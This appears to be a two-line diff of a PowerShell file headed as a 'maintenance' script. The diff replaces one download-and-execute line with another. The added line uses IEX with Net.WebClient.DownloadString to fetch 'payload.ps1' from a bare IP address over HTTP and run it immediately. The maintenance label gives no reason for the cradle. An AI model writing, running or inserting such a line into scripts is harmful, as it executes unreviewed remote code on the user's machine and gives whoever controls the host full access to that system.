@@ -1,2 +1,2 @@
-# maintenance 6137 v1
-IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.200/update.ps1')
+# maintenance 7084 v1
+IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.150/payload.ps1')
